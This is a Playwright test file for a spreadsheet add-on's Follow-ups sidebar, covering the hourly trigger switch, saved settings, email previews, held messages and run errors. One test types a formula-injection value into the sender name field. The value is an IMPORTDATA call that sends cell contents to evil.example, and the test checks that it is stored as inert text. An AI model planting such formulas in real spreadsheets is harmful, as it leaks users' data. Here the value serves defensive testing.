/**
 * The Follow-ups panel in headless Chromium: the hourly trigger as a switch, mode, send window and
 * sender name saved in Settings, the next run's emails in full, held messages and the last run.
 */
import type { Browser, Page } from 'playwright-core';
import { addOn } from '../../scripts/addOn';
import type { Runtime } from '../../scripts/runtime';
import { sheetNamed } from '../../scripts/runtime/workbook';
import { expectAccessible } from '../browser/axe';
import { expectFits, expectNoInjection, screenshotPanel } from './checks';
import { launchBrowser } from './harness';
import { HOSTILE, openPanel, organizedWorkbook, runtimeOn, selection, tabValues } from './workbook';

const followUpTriggers = (runtime: Runtime) => runtime.triggers.filter((t) => t.handler === 'runFollowUps');

/** The Value cell of a Settings row. */
function setting(runtime: Runtime, name: string): unknown {
  return tabValues(runtime, 'Settings').find((row) => row[0] === name)?.[1];
}

/** kim.glow's Email cannot be used: her Reminder is held with the reason. */
function withUnusableEmail(runtime: Runtime): void {
  const creators = sheetNamed(runtime.workbook, 'Creators');
  const kim = creators.rows.find((row) => row[0].value === 'kim.glow')!;
  kim[2] = { value: 'kim@' };
}

const emailOf = (page: Page, title: string) =>
  page.locator('#followups-preview li.email', { has: page.getByRole('heading', { name: title }) });

describe('sidebar: Follow-ups', () => {
  let browser: Browser;
  let runtime: Runtime;

  beforeAll(async () => {
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser.close();
  });
  beforeEach(() => {
    runtime = runtimeOn(organizedWorkbook());
  });

  it('turns the hourly trigger on and off with the switch, by click and by keyboard', async () => {
    const { page } = await openPanel(browser, runtime, 'Follow-ups');
    const toggle = page.getByRole('switch', { name: 'Send follow-ups every hour' });
    await page.getByText('Off: no follow-up is sent or queued.').waitFor();
    expect(await toggle.getAttribute('aria-checked')).toBe('false');

    await toggle.click();
    await page.getByText(/^On: every hour between 09:00-18:00, due emails wait for your approval\.$/).waitFor();
    expect(await toggle.getAttribute('aria-checked')).toBe('true');
    expect(followUpTriggers(runtime)).toHaveLength(1);
    expect(await page.locator('#announcer').textContent()).toMatch(/^Follow-ups are on/);

    await toggle.focus();
    await page.keyboard.press('Space');
    await page.getByText('Off: no follow-up is sent or queued.').waitFor();
    expect(followUpTriggers(runtime)).toHaveLength(0);
  });

  it('saves mode, send window and sender name in the Settings tab, as text', async () => {
    const { page } = await openPanel(browser, runtime, 'Follow-ups');
    await page.getByRole('heading', { name: 'Next run' }).waitFor();
    await page.getByLabel('Mode').selectOption('send');
    await page.getByLabel('Send window').fill('8-17');
    await page.getByLabel('Sender name').fill('=IMPORTDATA("https://evil.example/?"&A1)');
    await page.getByLabel('Sender name').press('Enter');
    await page.locator('#announcer', { hasText: 'Saved in the Settings tab.' }).waitFor({ state: 'attached' });

    expect(setting(runtime, 'Follow-up mode')).toBe('send');
    expect(setting(runtime, 'Follow-up send window')).toBe('08:00-17:00');
    expect(setting(runtime, 'Follow-up sender name')).toBe('=IMPORTDATA(https://evil.example/?&A1)');
    const senderCell = sheetNamed(runtime.workbook, 'Settings').rows.find(
      (row) => row[0].value === 'Follow-up sender name',
    )![1];
    expect(senderCell.formula).toBeUndefined();
    expect(await page.getByLabel('Send window').inputValue()).toBe('08:00-17:00');
    // The keyboard lands on the new preview.
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Next run');
  });

  it('refuses a send window it cannot read, saying how to write it, and keeps the old one', async () => {
    addOn(runtime).menuFollowUpsOn();
    const { page } = await openPanel(browser, runtime, 'Follow-ups');
    await page.getByRole('heading', { name: 'Next run' }).waitFor();
    await page.getByLabel('Send window').fill('all day');
    await page.getByRole('button', { name: 'Save settings' }).click();
    const error = page.getByRole('alert').filter({ hasText: 'Send window' });
    await error.waitFor();
    expect(await error.textContent()).toBe("Send window: 'all day' is not a time window: write it like 09:00-18:00.");
    expect(setting(runtime, 'Follow-up send window')).toBe('09:00-18:00');
  });

  it('previews each email of the next run in full, and the run sends exactly that', async () => {
    addOn(runtime).menuFollowUpsOn();
    const { page } = await openPanel(browser, runtime, 'Follow-ups');
    const reminder = emailOf(page, 'Reminder · @kim.glow');
    await reminder.waitFor();
    expect(await reminder.getByText('Would wait for your approval').count()).toBe(1);
    await reminder.getByText('The email').click();
    const shown = {
      to: await reminder.locator('dd').nth(0).textContent(),
      subject: await reminder.locator('dd').nth(1).textContent(),
      body: await reminder.locator('.body').textContent(),
    };
    expect(shown.to).toBe('kim@example.com');
    expect(shown.body).toContain(HOSTILE);
    await expectNoInjection(page);

    await page.getByLabel('Mode').selectOption('send');
    await page.getByRole('button', { name: 'Save settings' }).click();
    await page.locator('#announcer', { hasText: 'Saved' }).waitFor({ state: 'attached' });
    addOn(runtime).menuSendFollowUps();
    const sent = runtime.outbox.find((mail) => mail.to === 'kim@example.com')!;
    // The email on the wire has CRLF line ends, as RFC 5322 wants.
    expect({ to: sent.to, subject: sent.subject, body: sent.body.replace(/\r\n/g, '\n') }).toEqual(shown);
  });

  it('shows messages held with their reason, and selects a held one in the Follow-up log', async () => {
    withUnusableEmail(runtime);
    const { page } = await openPanel(browser, runtime, 'Follow-ups');
    const held = emailOf(page, 'Reminder · @kim.glow');
    await held.waitFor();
    expect(await held.getByText('Would be held').count()).toBe(1);
    expect(await held.locator('.problems').textContent()).toMatch(
      /the Email of @kim\.glow on the Creators tab cannot be used/,
    );

    // After a run the log holds it back; the preview lists it from there.
    addOn(runtime).menuSendFollowUps();
    await page.getByRole('button', { name: 'Refresh' }).click();
    const heldGroup = page.locator('#followups-preview section.group', { hasText: 'Held with a problem to fix: 1' });
    await heldGroup.waitFor();
    expect(await heldGroup.textContent()).toMatch(/Reminder · @kim\.glow.*Creators tab cannot be used/);
    await heldGroup.getByRole('button', { name: 'Reminder · @kim.glow' }).click();
    await page.locator('#announcer', { hasText: 'Follow-up log' }).waitFor({ state: 'attached' });
    expect(selection(runtime)).toMatch(/^Follow-up log!A\d+:I\d+$/);
  });

  it("shows the last run's outcome, and its error when it failed", async () => {
    addOn(runtime).menuFollowUpsOn();
    addOn(runtime).menuSendFollowUps();
    const { page } = await openPanel(browser, runtime, 'Follow-ups');
    await page
      .locator('#followups-run')
      .getByText(/^0 sent, 3 queued for approval\.$/)
      .waitFor();

    // An operator renamed the log's Status column: the next run fails and says how to fix it.
    const log = sheetNamed(runtime.workbook, 'Follow-up log');
    log.rows[0][6] = { value: 'State' };
    addOn(runtime).menuSendFollowUps();
    await page.getByRole('button', { name: 'Refresh' }).click();
    const failed = page.locator('#followups-run p.error');
    await failed.waitFor();
    expect(await failed.textContent()).toMatch(
      /^The run failed: the Follow-up log tab has no Status column: its first row must name Time, Rule/,
    );
  });

  it('says so when another run holds the lock, and installs nothing', async () => {
    const { page } = await openPanel(browser, runtime, 'Follow-ups');
    const toggle = page.getByRole('switch', { name: 'Send follow-ups every hour' });
    await page.getByText('Off: no follow-up is sent or queued.').waitFor();
    const release = runtime.locks.holdDocumentLock();
    try {
      await toggle.click();
      await page.getByRole('alert').filter({ hasText: 'already running' }).waitFor();
    } finally {
      release();
    }
    expect(followUpTriggers(runtime)).toHaveLength(0);
    expect(await toggle.getAttribute('aria-checked')).toBe('false');
  });

  it('fits 300 px, passes axe and writes a screenshot', async () => {
    withUnusableEmail(runtime);
    addOn(runtime).menuFollowUpsOn();
    const { page } = await openPanel(browser, runtime, 'Follow-ups');
    await emailOf(page, 'Second nudge · @jane.doe').getByText('The email').click();
    await expectFits(page);
    await expectAccessible(page);
    await expectNoInjection(page);
    expect(await screenshotPanel(page, 'sidebar-follow-ups')).toMatch(/sidebar-follow-ups\.png$/);
  });
});
